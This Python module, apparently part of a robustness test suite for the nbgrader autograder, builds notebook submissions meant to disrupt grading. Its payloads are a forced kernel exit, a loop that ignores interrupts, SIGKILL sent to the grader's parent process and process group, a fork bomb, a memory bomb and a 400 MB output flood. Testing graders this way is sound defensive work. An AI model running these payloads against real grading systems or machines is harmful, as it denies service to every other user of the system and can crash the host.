"""Cheats that attack the grading process: kill it, hang it, exhaust the machine.

Against nbgrader's defaults these stop the batch for every student graded later (or take
the machine down), so a student who cannot pass can make sure nobody is graded. The ones
marked dangerous harm the machine when the grader does not contain them: run them only
with a sandboxed grader. None of them uses ``kill(-1)``.
"""

from __future__ import annotations

from . import Submission, after_setup, cheat


@cheat("batch")
def os_exit(release, assignment, solution):
    """os._exit in a cell after the setup cell: the kernel dies without a reply."""
    return Submission(after_setup(release, "import os\nos._exit(3)"))


@cheat("batch")
def hang_ignoring_interrupts(release, assignment, solution):
    """SIGINT and SIGTERM ignored, then a busy loop: the cell never ends, interrupts do nothing."""
    return Submission(after_setup(release, """
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
while True:
    pass
"""))


@cheat("batch", dangerous=True)
def kill_parent(release, assignment, solution):
    """SIGKILL to the kernel's parent process (the grader), then to the grandparent."""
    return Submission(after_setup(release, """
import os
import signal

_parent = os.getppid()
try:
    with open(f"/proc/{_parent}/stat") as _fh:
        _grandparent = int(_fh.read().rsplit(")", 1)[1].split()[1])
except (OSError, ValueError, IndexError):
    _grandparent = None
os.kill(_parent, signal.SIGKILL)
if _grandparent and _grandparent > 1:
    os.kill(_grandparent, signal.SIGKILL)
"""))


@cheat("batch", dangerous=True)
def kill_process_group(release, assignment, solution):
    """SIGKILL to the grader's process group and session (never kill(-1))."""
    return Submission(after_setup(release, """
import os
import signal

for _group in {os.getpgid(os.getppid()), os.getpgid(0)}:
    if _group > 1:
        try:
            os.killpg(_group, signal.SIGKILL)
        except OSError:
            pass
"""))


@cheat("batch", dangerous=True)
def fork_bomb(release, assignment, solution):
    """A fork bomb: every process forks forever (the children ignore SIGINT)."""
    return Submission(after_setup(release, """
import os
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        os.fork()
    except OSError:
        pass
"""))


@cheat("batch", dangerous=True)
def memory_bomb(release, assignment, solution):
    """Allocates (and touches) memory in 256 MiB blocks until the machine runs out."""
    return Submission(after_setup(release, """
_hoard = []
while True:
    _hoard.append(bytearray(b"x" * (256 << 20)))
"""))


@cheat("batch", dangerous=True)
def output_flood(release, assignment, solution):
    """Prints 400 MB of output from a single cell (the autograded notebook and its memory)."""
    return Submission(after_setup(release, """
_line = "x" * 1023
for _ in range(400 * 1024):
    print(_line)
"""))
